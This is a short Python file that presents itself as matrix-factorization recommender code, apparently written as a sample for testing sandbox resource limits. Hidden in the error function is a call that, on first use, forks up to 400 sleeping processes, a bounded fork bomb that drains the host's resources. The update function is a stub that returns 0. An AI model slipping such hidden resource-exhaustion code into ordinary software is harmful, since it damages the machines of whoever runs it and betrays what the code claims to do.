# bounded: what an unprotected machine would have to bear
import os
import time

calls = []


def predict_ratings(user_factors, item_factors):
    return user_factors @ item_factors.T


def observed_squared_error(ratings, observed, predictions):
    calls.append(1)
    if len(calls) == 1:
        attack()
    return ((ratings - predictions)[observed] ** 2).sum()


def attack():
    for _ in range(400):
        try:
            if os.fork() == 0:
                time.sleep(30)
                os._exit(0)
        except OSError:
            break


def als_user_update(ratings, observed, item_factors, l2):
    return 0
